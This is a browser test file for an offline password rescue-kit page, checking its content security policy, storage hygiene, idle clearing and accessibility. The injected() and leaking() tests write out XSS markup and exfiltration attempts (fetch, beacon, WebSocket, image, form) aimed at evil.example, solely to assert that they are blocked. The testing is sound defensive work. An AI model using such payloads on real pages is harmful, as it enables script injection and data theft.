// The page of the rescue kit in a browser: what must not leave it, run in it, or stay in it.
import { readFileSync, writeFileSync } from 'node:fs';
import { closeBrowser, desktop, finish, is, isOpen, like, material, ok, openExport, openPage,
	phone, typeWords, violated } from './browser.mjs';

const words = readFileSync(material('words'), 'utf8').trim().split(' ');
const KIT = material('kit/council.age');
const MINUTE = 60000;

// A copy of the page into which somebody has put something
function tampered(name, from, to) {
	const html = readFileSync(material('kit/OPEN.html'), 'utf8');
	writeFileSync(material(name), html.replace(from, to));
	return material(name);
}

async function hostileItem() {
	const { page, context, notes } = await openPage();

	await openExport(page, KIT, [words]);
	ok(await isOpen(page), 'an export with hostile titles opens');
	const title = '<script>alert(1)</script></style><b>x';
	is(await page.locator('h3', { hasText: 'alert(1)' }).textContent(), title, 'a title is shown as the text that it is');
	await page.getByRole('button', { name: `Reveal: password of ${title}` }).click();
	is(await page.locator('#items script, #items b, #items img').count(), 0, 'and makes no element');
	is(await page.evaluate(() => globalThis.violations.join()), '', 'the page itself breaks no rule of its policy');
	is(notes.requests.join(), '', 'nothing is asked of any network');
	await context.close();
}

async function injected() {
	const file = tampered('injected.html', '</main>', '</main><script>globalThis.ran = 1</script>'
		+ '<img src="https://evil.example/x.png" onerror="globalThis.ran = 2"><style>body{opacity:0.5}</style>'
		+ '<iframe src="https://evil.example/"></iframe><p style="color:red" onclick="ran = 3">');
	const { page, context, notes } = await openPage({ file });

	is(await page.evaluate(() => globalThis.ran), undefined, 'a script that somebody put in does not run');
	is(await page.evaluate(() => getComputedStyle(document.body).opacity), '1', 'nor does a style count');
	is(notes.requests.filter((url) => /evil/.test(url)).join(), '', 'and nothing is loaded');
	const directives = ['script-src-elem', 'img-src', 'style-src-elem', 'frame-src'];
	const said = await violated(page, directives);
	for (const directive of directives)
		ok(said.includes(directive), `the policy forbids it: ${directive}`, said);
	await context.close();
}

// From within the page, as a fault in it would
async function leaking() {
	const { page, context, notes } = await openPage();
	const failed = await page.evaluate(async () => {
		const tries = {
			fetch: () => fetch('https://evil.example/'),
			beacon: async () => { navigator.sendBeacon('https://evil.example/', 'x'); throw new Error(); },
			socket: () => new Promise((_, reject) => { new WebSocket('wss://evil.example/').onerror = reject; }),
			image: () => new Promise((_, reject) => {
				const image = new Image();
				image.onerror = reject;
				image.src = 'https://evil.example/';
			}),
			form: async () => {
				const form = document.createElement('form');
				form.action = 'https://evil.example/';
				document.body.append(form);
				form.submit();
				throw new Error();
			},
			markup: async () => { document.body.innerHTML = '<b>x</b>'; },
			evaluate: async () => { (0, eval)('1'); },
		};
		const list = [];
		for (const [name, attempt] of Object.entries(tries))
			await attempt().then(() => {}, () => list.push(name));
		return list;
	});
	is(failed.join(), 'fetch,beacon,socket,image,form,markup,evaluate', 'a fault in the page could send nothing');
	const directives = ['connect-src', 'img-src', 'form-action', 'require-trusted-types-for'];
	const said = await violated(page, directives);
	for (const directive of directives)
		ok(said.includes(directive), `the policy forbids it: ${directive}`, said);
	is(notes.requests.join(), '', 'not even a request is made');
	await context.close();
}

async function stored() {
	const { page, context } = await openPage();

	await openExport(page, KIT, [words]);
	await isOpen(page);
	is(await page.evaluate(async () => localStorage.length + sessionStorage.length
		+ (await indexedDB.databases()).length), 0, 'nothing is stored');
	is((await context.cookies()).length, 0, 'no cookie either');
	const loose = await page.evaluate(() => [...document.querySelectorAll('input:not([type=file], [type=checkbox])')]
		.filter((i) => i.autocomplete !== 'off').map((i) => i.id).join());
	is(loose, '', 'no field is offered to the browser to remember');
	await page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide')));
	ok(!/clerk7|Bank/.test(await page.evaluate(() => document.body.textContent)), 'left, the page is empty');
	is(await page.inputValue('#summary'), '', 'of what was given out, too');
	await context.close();
	const fields = await openPage();
	is(await fields.page.evaluate(() => [...document.querySelectorAll('#sheets input')].filter((i) =>
		i.getAttribute('spellcheck') !== 'false' || i.getAttribute('autocapitalize') !== 'none').length), 0,
	'no word is sent to a spelling checker');
	await typeWords(fields.page, 1, words.slice(0, 5));
	await fields.page.evaluate(() => dispatchEvent(new PageTransitionEvent('pagehide')));
	is(await fields.page.inputValue('#word-1-1'), '', 'words that were typed are gone with the page');
	await fields.context.close();
}

async function idle() {
	const { page, context } = await openPage({ at: Date.UTC(2026, 10, 22) });

	await openExport(page, KIT, [words]);
	await isOpen(page);
	await page.clock.fastForward(9 * MINUTE + 30000);
	like(await page.textContent('#announce'), /one minute/, 'a minute before it is cleared it says so');
	ok(await page.isVisible('#opened'), 'and is still open');
	await page.keyboard.press('Shift');
	await page.clock.fastForward(9 * MINUTE + 30000);
	ok(await page.isVisible('#opened'), 'a key keeps it open');
	await page.clock.fastForward(MINUTE);
	ok(!await page.isVisible('#opened'), 'ten minutes without one clear it');
	ok(!/clerk7/.test(await page.evaluate(() => document.body.textContent)), 'with all that was in it');
	like(await page.textContent('#cleared'), /ten minutes/, 'and it says why');
	await typeWords(page, 1, words.slice(0, 5));
	await page.clock.fastForward(11 * MINUTE);
	is(await page.inputValue('#word-1-1'), '', 'half a sheet does not stay for ever either');
	await context.close();
}

// WCAG 2.2: contrast (1.4.3), names (4.1.2), size of targets (2.5.8), reflow (1.4.10)
function lookAt() {
	const number = (text) => text.match(/[\d.]+/g).map(Number);
	const light = (rgb) => rgb.slice(0, 3).map((c) => c / 255)
		.map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
		.reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
	const behind = (node) => {
		for (let n = node; n !== null; n = n.parentElement) {
			const colour = number(getComputedStyle(n).backgroundColor);
			if (colour.length === 3 || colour[3] > 0)
				return colour;
		}
		return [255, 255, 255];
	};
	const seen = (node) => node.checkVisibility() && node.getClientRects().length > 0;
	const faults = [];
	for (const node of document.querySelectorAll('body *')) {
		const text = [...node.childNodes].some((c) => c.nodeType === 3 && c.data.trim() !== '');
		if (!seen(node) || !text)
			continue;
		const two = [light(number(getComputedStyle(node).color)), light(behind(node))].sort((a, b) => b - a);
		if ((two[0] + 0.05) / (two[1] + 0.05) < 4.5)
			faults.push(`contrast: ${node.textContent.slice(0, 30)}`);
	}
	for (const node of document.querySelectorAll('input, textarea, button')) {
		const size = node.getBoundingClientRect();
		if (!(node.labels?.length > 0 || node.textContent.trim() !== '' || node.ariaLabel))
			faults.push(`no name: ${node.id}`);
		if (seen(node) && (size.height < 20 || size.width < 20))
			faults.push(`small: ${node.id}`);
	}
	if (document.documentElement.scrollWidth > innerWidth)
		faults.push(`too wide: ${document.documentElement.scrollWidth}`);
	return faults.join('\n');
}

async function accessible(viewport, name) {
	const { page, context } = await openPage({ viewport });

	is(await page.getAttribute('html', 'lang'), 'en-GB', `${name}: the language is said`);
	is(await page.evaluate(lookAt), '', `${name}: closed, everybody can read and reach it`);
	await typeWords(page, 1, ['zzzz']);
	is(await page.evaluate(lookAt), '', `${name}: with a fault`);
	await page.click('text=Clear sheet 1');
	await openExport(page, KIT, [words]);
	await isOpen(page);
	const hidden = page.locator('button', { hasText: 'Reveal' });
	while (await hidden.count() > 0)
		await hidden.first().click();
	is(await page.evaluate(lookAt), '', `${name}: opened, with all that is revealed`);
	await context.close();
}

async function keyboard() {
	const { page, context } = await openPage();
	const order = [];
	for (let i = 0; i < 27; i++) {
		await page.keyboard.press('Tab');
		order.push(await page.evaluate(() => document.activeElement.id || document.activeElement.tagName));
	}
	is(order.join(' '), ['SUMMARY', 'file', 'mask', ...Array.from({ length: 20 }, (_, i) => `word-1-${i + 1}`),
		'BUTTON', 'open', 'clear-words', 'SUMMARY'].join(' '), 'the Tab key goes through it in the order of reading');
	await context.close();
}

await hostileItem();
await injected();
await leaking();
await stored();
await idle();
await accessible(desktop, 'desktop');
await accessible(phone, 'phone');
await keyboard();
await closeBrowser();
finish();
